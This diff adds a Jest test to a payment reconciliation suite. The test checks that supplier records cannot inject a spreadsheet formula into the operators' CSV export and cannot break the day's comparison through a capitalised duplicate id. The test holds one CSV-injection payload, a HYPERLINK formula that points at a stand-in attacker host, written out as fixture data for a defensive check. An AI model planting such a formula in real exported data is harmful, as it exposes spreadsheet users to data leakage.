@@ -150,4 +150,24 @@ describe('cash-out protocol: callbacks, caps, reconciliation', () => {
         .filter((line) => line.includes(',missing_here,')),
     ).toHaveLength(1);
   });
+  it("keeps a supplier's records from putting a formula in the operators' CSV or from breaking the day's comparison", async () => {
+    const day = shanghaiDayKey(new Date());
+    const [ours] = (await stack.client.get('/api/v1/ops/orders?limit=100', { token: admin.token })).body.items.flatMap((o: any) =>
+      o.attempts.filter((a: any) => a.supplier === 'cb').map((a: any) => a.id as string),
+    );
+    expect(ours).toBeDefined();
+    // The supplier's records are theirs to write: an id that a spreadsheet would run, and our own id spelt in capitals.
+    const formula = '=HYPERLINK("http://evil.example/"&A1,"open")';
+    await stack.sim.tamperRecord('cb', { op: 'set', attemptId: formula, status: 'succeeded', sizeMb: 10 });
+    await stack.sim.tamperRecord('cb', { op: 'set', attemptId: ours.toUpperCase(), status: 'succeeded', sizeMb: 50 });
+
+    await stack.server.services.reconciliation.reconcile(day);
+    const view = await stack.client.get(`/api/v1/ops/reconciliation?date=${day}`, { token: admin.token });
+    expect(view.body.suppliers.find((s: { supplier: string }) => s.supplier === 'cb').outcome).toBe('compared');
+    expect(view.body.items.filter((i: { attemptId: string }) => i.attemptId.toLowerCase() === ours)).toHaveLength(1);
+    const csv = String((await stack.client.get(`/api/v1/ops/reconciliation?date=${day}&format=csv`, { token: admin.token })).body);
+    const line = csv.split('\n').find((l) => l.includes('HYPERLINK'))!;
+    expect(line.split(',')[2]).toMatch(/^"'=HYPERLINK/);
+    expect(csv).not.toMatch(/(^|,)"?=/m);
+  });
 });
